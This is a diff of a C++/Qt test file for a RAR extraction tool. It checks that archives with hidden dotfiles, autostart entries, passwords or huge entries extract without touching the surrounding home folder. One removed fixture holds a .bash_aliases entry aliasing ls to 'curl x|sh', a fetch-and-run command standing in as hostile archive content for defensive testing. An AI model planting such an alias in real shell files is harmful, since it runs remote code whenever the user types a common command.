@@ -4,7 +4,6 @@
 
 #include "Arbre.h"
 #include "Archives.h"
-#include "EcrivainRar.h"
 #include "ExtraireIci.h"
 #include "FUnRAR.h"
 #include "Passe.h"
@@ -29,10 +28,7 @@ struct Cas {
 };
 
 const QList<Cas> cas{
-    {"a hidden file alone",
-     {{".bash_aliases", "alias ls='curl x|sh'"}},
-     "jeu (2)",
-     {".bash_aliases"}},
+    {"a hidden file alone", {{".bash_aliases", "alias ls=x"}}, "jeu (2)", {".bash_aliases"}},
     {"a hidden folder with an autostart entry",
      {{".config/autostart/x.desktop", "[Desktop]"}},
      "jeu (2)",
@@ -44,10 +40,7 @@ const QList<Cas> cas{
      "jeu (2)",
      {".config/autostart/y.desktop"}},
     {"a folder of another name", {{"bin/outil", "#!/bin/sh"}}, "jeu (2)", {"bin/outil"}},
-    {"the folder named as the archive, there already",
-     {{"jeu/a.txt", "a"}},
-     "jeu (2)",
-     {"jeu/a.txt"}},
+    {"a folder named as the archive, there", {{"jeu/a.txt", "a"}}, "jeu (2)", {"jeu/a.txt"}},
     {"a file named as a folder there", {{"Projet", "p"}}, "jeu (2)", {"Projet"}},
     {"two entries", {{"a.txt", "a"}, {"d/b.txt", "b"}}, "jeu (2)", {"a.txt", "d/b.txt"}},
     {"one visible file", {{"lisez-moi.txt", "l"}}, "lisez-moi.txt", {"lisez-moi.txt"}},
@@ -72,50 +65,18 @@ void peupler(const QString& maison) {
     ::chmod(QFile::encodeName(maison + "/.ssh/authorized_keys").constData(), 0600);
 }
 
-// The archives that rar makes, once: a password that nobody gives, an entry long to extract.
-QString faite(Cas::Tour tour) {
+// The archive beside the home: the case's entries, written byte by byte, or one that rar makes
+// (a password that nobody gives, made once; an entry long to extract).
+QString fabriquer(const QString& maison, const Cas& c) {
     static QTemporaryDir dossier;
     static const QString sansMotDePasse = archives::creer(
         dossier.path(), QStringLiteral("p.rar"), {{QStringLiteral("a.txt"), "a"}}, {"-pk"});
-    static const QString longue = [] {
-        const QString a = archives::creer(dossier.path(), QStringLiteral("l.rar"),
-                                          {{QStringLiteral("a.txt"), "a"}, {"b.txt", "b"}});
-        archives::ajouterZeros(a, QStringLiteral("gros.bin"), qint64(1) << 30);
-        return a;
-    }();
-    return tour == Cas::SansMotDePasse ? sansMotDePasse : longue;
-}
-
-QString fabriquer(const QString& maison, const Cas& c) {
     const QString archive = maison + QStringLiteral("/jeu.rar");
-    if (c.tour >= Cas::SansMotDePasse) {
-        QFile::copy(faite(c.tour), archive);
-        return archive;
+    if (c.tour < Cas::SansMotDePasse) {
+        return archives::brute(archive, c.entrees);
     }
-    QList<ecrivain::Entree> entrees;
-    for (const auto& [nom, contenu] : c.entrees) {
-        const bool lien = contenu.startsWith("-> ");
-        entrees << ecrivain::Entree{.genre = lien ? ecrivain::Entree::Genre::LienSymbolique
-                                                  : ecrivain::Entree::Genre::Fichier,
-                                    .nom = nom,
-                                    .contenu = lien ? contenu.mid(3) : contenu};
-    }
-    return ecrivain::ecrire(archive, ecrivain::rar5(entrees));
-}
-
-// What lies beneath `chemin`, folders aside, relative to it; a file is itself.
-QByteArrayList sous(const QString& chemin) {
-    if (!QFileInfo(chemin).isDir() || QFileInfo(chemin).isSymLink()) {
-        return {QFile::encodeName(QFileInfo(chemin).fileName())};
-    }
-    QByteArrayList noms;
-    const auto a = arbre::lire(chemin, false);
-    for (auto i = a.cbegin(); i != a.cend(); ++i) {
-        if (!i.value().startsWith("40")) {
-            noms << i.key();
-        }
-    }
-    return noms;
+    QFile::copy(c.tour == Cas::SansMotDePasse ? sansMotDePasse : archives::longue(), archive);
+    return archive;
 }
 
 } // namespace
@@ -183,21 +144,22 @@ private slots:
 
         auto apres = arbre::lire(maison, n.modes);
         QStringList nouveaux;
+        QByteArrayList dedans; // folders aside; a file published is itself
         for (auto i = apres.begin(); i != apres.end();) {
             if (!avant.contains(i.key()) && !i.key().contains('/')) {
                 nouveaux << QFile::decodeName(i.key());
             }
-            if (!c.publie.isEmpty() &&
-                (i.key() == c.publie || i.key().startsWith(c.publie + '/'))) {
-                i = apres.erase(i);
-            } else {
-                ++i;
+            const bool publie =
+                !c.publie.isEmpty() && (i.key() == c.publie || i.key().startsWith(c.publie + '/'));
+            if (publie && !i.value().startsWith("40")) {
+                dedans << (i.key() == c.publie ? i.key() : i.key().mid(c.publie.size() + 1));
             }
+            i = publie ? apres.erase(i) : std::next(i);
         }
         QCOMPARE(nouveaux, c.publie.isEmpty() ? QStringList() : QStringList{c.publie});
         QCOMPARE(apres, avant);
-        if (n.gardes && !c.publie.isEmpty()) {
-            QCOMPARE(sous(maison + QLatin1Char('/') + QFile::decodeName(c.publie)), c.dedans);
+        if (n.gardes) {
+            QCOMPARE(dedans, c.dedans);
         }
     }
 
